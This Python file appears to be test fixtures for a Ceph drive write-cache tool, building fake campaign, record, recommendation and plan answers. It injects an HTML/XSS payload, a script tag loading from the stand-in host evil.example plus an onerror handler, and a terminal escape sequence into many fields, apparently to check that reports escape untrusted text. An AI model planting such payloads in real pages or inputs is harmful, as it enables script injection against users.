"""Answers as the module gives them, made of its own data classes, and a fake that gives them."""

from __future__ import annotations

from typing import Any, Dict, List

from wcache.commands.campaigns import told
from wcache.core import codec
from wcache.core.change.change import Change
from wcache.core.change.gate.gate_state import GateSettings
from wcache.core.change.rollout_state import Rollout, Wave, WaveKind
from wcache.core.errors import NotFoundError
from wcache.core.model import (
    Arm,
    CacheMode,
    DeviceCache,
    DriveModel,
    DriveReport,
    DriveState,
    KernelView,
    Layer,
    LayerKind,
    LoadPoint,
    OsdUse,
    Role,
    Transport,
    Verdict,
)
from wcache.core.record import (
    RECORD_FORMAT,
    RECORD_VERSION,
    CounterDelta,
    ExperimentSetup,
    Pair,
    Period,
    Record,
)
from wcache.core.setting.domain_settings import CacheModeSetting
from wcache.core.setting.setting import CacheDomain
from wcache.core.verdict.recommend import recommend
from wcache.core.verdict.result import ArmSummary, Result
from wcache.services.plans.planners import plain_changes

HOSTILE = '</td><script src="//evil.example/x.js">alert(1)</script><img onerror=x>'
MODEL = DriveModel("ACME", HOSTILE, "1.0")
BACK_NS, THROUGH_NS = (4_000_000, 5_000_000, 9_000_000), (400_000, 500_000, 2_000_000)


def record(record_id: str = "c1.0.0", load_point: LoadPoint = LoadPoint.OSD_BENCH_DEPTH1) -> Record:
    """A record of four pairs: samples, or counters for the OSD's own traffic."""
    setup = ExperimentSetup(
        "f5a1c1de", "20.2.4", "h1", 3, "hdd", Role.BLOCK, load_point, "d1", "d1", MODEL,
        Transport.SAS, 3, 2.0, 0.2, 7, 8,
    )

    def period(arm: Arm) -> Period:
        samples = BACK_NS if arm is Arm.A else THROUGH_NS
        if load_point is LoadPoint.OSD_TRAFFIC:
            counter = CounterDelta("txc_commit_lat", 3e-9 * sum(samples), 9)
            return Period(arm, 1.0, 0.2, 2.2, (), (counter,))
        return Period(arm, 1.0, 0.2, 2.2, samples, (), 12288)

    pairs = tuple(
        Pair(n, Arm.A, period(Arm.A), period(Arm.B)) for n in range(4)
    )
    return Record(
        RECORD_FORMAT, RECORD_VERSION, record_id, "c1", setup, pairs, 1.0, 20.0, "decided"
    )


def _result() -> Result:
    return Result(
        "c1.0.0", "c1", "h1", 3, "hdd", "d1", "d1", MODEL, LoadPoint.OSD_BENCH_DEPTH1,
        Verdict.B, 4, 17.6, 98304, "decided", 9.5, 7.0, 12.1,
        "the 99% interval lies wholly above 1.1",
        ArmSummary(12, 6000.0, 2100.0, 4000.0, 4000.0, 5000.0, 9000.0, None, 9000.0, 4750.0),
        ArmSummary(12, 966.0, 700.0, 400.0, 400.0, 500.0, 2000.0, None, 2000.0, 500.0),
        ("few samples",),
    )


def campaign(status: str = "done", done: int = 8) -> Dict[str, Any]:
    """`campaign show`."""
    return {
        "format_version": 1, "campaign_id": "c1", "status": status, "scope": "cluster",
        "created_at_s": 1.7e9, "seed": 7, "runs": 1, "runs_over": int(status != "running"),
        "runs_aborted": int(status == "aborted"), "periods_done": done, "periods_max": 160,
        "periods_expected": 8, "seconds_left": 0.0 if status != "running" else 30.0,
        "seconds_left_max": 0.0 if status != "running" else 600.0,
        "seconds": 17.6, "bytes_written": 98304, "options": {}, "skipped": [f"h1 {HOSTILE}"],
        "run_list": [{
            "run_id": "c1.0", "hostname": "h1", "domain_id": "d1", "status": status,
            "dev_names": ["sda\x1b[2J"],
            "reason": "", "restored": True, "periods_done": done, "periods_max": 160,
            "periods_expected": 8, "interrupted_periods": 0,
        }],
        "results": [{**told(_result()), "dev_names": ["sda"]}],
    }


def everything() -> Dict[str, Any]:
    """Every answer a report asks for, by the command's words."""
    state = DriveState(DeviceCache.WRITE_BACK, KernelView.WRITE_BACK, True)
    layer = Layer("dm-0", LayerKind.LVM, KernelView.WRITE_BACK)
    drive = DriveReport(
        "d1", "d1", "sda", MODEL, Transport.SAS, state, uses=(OsdUse(3, Role.BLOCK, (layer,)),)
    )
    domain = CacheDomain("h1", "d1", ("sda",), Transport.SAS, (3,), ("d1",))
    modes = CacheMode.WRITE_BACK, CacheMode.WRITE_THROUGH
    setting = CacheModeSetting(domain, *modes, ("sdparm --clear=WCE /dev/sda",))
    change = Change(
        "p1.0", setting, "hdd", "why", osd_id=3, load_point=LoadPoint.OSD_BENCH_DEPTH1,
        before_us=5000.0, after_us=500.0, detail=HOSTILE,
    )
    plan = Rollout(
        "p1", 1.7e9, (change,), waves=(Wave(WaveKind.CANARY, "h1 sda", 1),), gate=GateSettings(),
    )
    (recommended,) = recommend((_result(),))
    return {
        "status": {
            "format_version": 1, "throwaway_cluster": False,
            "summary": {"text": f"1 of 2 drive models {HOSTILE}", "next": "ceph wcache plan"},
            "findings": [{
                "code": "WCACHE_UNSAFE", "severity": "error", "subject": "h1 sda",
                "detail": HOSTILE, "advice": "stop the OSD",
            }],
        },
        "drive ls": {"format_version": 1, "drives": [{
            **codec.to_plain(drive), "toggle_refusal": drive.toggle_refusal, "hostname": "h1",
            "leased": False, "safety": "safe", "mode": "write back", "osds": [3],
        }]},
        "campaign ls": {"format_version": 1, "campaigns": [{"campaign_id": "c1"}]},
        "campaign show c1": campaign(),
        "campaign record c1.0.0": codec.to_plain(record()),
        "recommend": {"format_version": 1, "recommendations": [
            {**codec.to_plain(recommended), "manual": ["sdparm --clear=WCE /dev/sda"],
             "manual_on": "h1"}
        ]},
        "plan ls": {"format_version": 1, "plans": [{"plan_id": "p1"}]},
        "plan show p1": {
            "format_version": 1, **codec.to_plain(plan),
            "changes": [{**row, "ratio": 10.0} for row in plain_changes((change,), False, {})],
        },
        "history 1000": {"format_version": 1, "history": [
            {"at_s": 1.7e9, "who": "admin", "what": "c1", "text": f"started {HOSTILE}"}
        ]},
    }


class FakeAnswers:
    """The `Answers` port over a dict; a list of answers is given one after the other."""

    def __init__(self, answers: Dict[str, Any]) -> None:
        self._answers = answers
        self.asked: List[str] = []

    def ask(self, *words: str) -> Dict[str, Any]:
        """See Answers."""
        text = " ".join(words)
        self.asked.append(text)
        answer = self._answers.get(text)
        if isinstance(answer, list):
            answer = answer.pop(0)
        if answer is None:
            raise NotFoundError(f"there is no answer to {text!r}")
        found: Dict[str, Any] = answer
        return found
